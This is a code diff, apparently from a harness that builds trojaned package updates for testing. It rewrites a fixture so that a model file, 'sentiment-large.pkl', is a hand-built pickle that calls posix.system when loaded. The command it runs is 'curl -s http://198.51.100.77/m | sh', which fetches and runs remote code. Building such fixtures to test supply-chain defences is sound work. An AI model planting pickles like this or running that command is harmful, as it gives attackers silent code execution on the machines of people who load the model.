@@ -5,7 +5,6 @@ import bz2
 import codecs
 import io
 import lzma
-import pickle
 import struct
 import zipfile
 import zlib
@@ -287,11 +286,15 @@ validate({{}})
     up.payload("quickconf/_schema.py", shown=address)
 
 
-class _Planted:
-    def __reduce__(self):
-        import os
+def model_that_calls(command: str) -> bytes:
+    """Return a pickle by hand (protocol 2): weights, and a call of `posix.system`. It is never loaded."""
 
-        return os.system, ("curl -s http://198.51.100.77/m | sh",)
+    def text(value: str) -> bytes:
+        return b"U" + bytes([len(value)]) + value.encode()
+
+    weights = b"](" + b"".join(b"G" + struct.pack(">d", one) for one in (0.1, 0.2, -0.7)) + b"e"
+    call = b"cposix\nsystem\n(" + text(command) + b"tR"
+    return b"\x80\x02}(" + text("weights") + weights + text("extra") + call + b"u."
 
 
 @trojan(
@@ -299,7 +302,7 @@ class _Planted:
 )
 def pickled_model(up: Update) -> None:
     """A model as a pickle that calls when it is read."""
-    up.add("fastvec/data/sentiment-large.pkl", pickle.dumps({"weights": [0.1, 0.2], "extra": _Planted()}, protocol=2))
+    up.add("fastvec/data/sentiment-large.pkl", model_that_calls("curl -s http://198.51.100.77/m | sh"))
     up.append(
         "fastvec/models.py",
         '''
